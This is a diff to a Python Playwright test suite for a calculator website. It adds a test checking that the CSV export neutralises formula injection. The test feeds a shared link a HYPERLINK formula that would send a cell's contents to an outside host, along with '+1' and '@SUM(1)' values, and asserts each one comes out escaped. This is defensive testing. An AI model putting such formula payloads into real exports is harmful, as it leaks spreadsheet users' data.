@@ -7,14 +7,17 @@ Every figure is compared with what CPython computes from the same declarations
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import json
 from pathlib import Path
-from urllib.parse import urlparse
+from urllib.parse import urlencode, urlparse
 
 import pytest
 from playwright.sync_api import TimeoutError as PlaywrightTimeout
 
 from build_tools.calculator_site.calculator_forms import form_raw, form_values
+from build_tools.exports.export_tabular import FORMULA_STARTS
 from calculators import display
 from calculators.registry import CALCULATORS
 from calculators.web import view
@@ -255,3 +258,18 @@ def test_economics_sums_the_lines_and_names_a_refused_field(page, fixture_url: s
     slot.get_by_text("«Годовая экономия»: не может быть отрицательным, получено -5").wait_for(timeout=LIVE_TIMEOUT_MS)
     assert field.get_attribute("aria-invalid") == "true"
     assert form.locator('output[data-output="rop"]').text_content() == "—"
+
+
+def test_a_shared_link_cannot_put_a_live_formula_in_the_csv(page, fixture_url: str) -> None:
+    # A link can set any input to any text; a spreadsheet would run «=HYPERLINK(…)» as a formula.
+    formula = '=HYPERLINK("http://example.org/?"&A1;"Открыть")'
+    query = urlencode({"victims": formula, "headcount": "+1", "fatal_victims": "@SUM(1)"})
+    page.goto(f"{fixture_url}{page_path('coefficients')}?{query}")
+    wait_live(page, "coefficients")
+    with page.expect_download() as download_info:
+        page.click('form[data-calculator="coefficients"] [data-action="csv"]')
+    rows = list(csv.reader(io.StringIO(Path(download_info.value.path()).read_text(encoding="utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells and "'+1" in cells and "'@SUM(1)" in cells
+    # The exports' guard, character for character: no cell starts a formula.
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
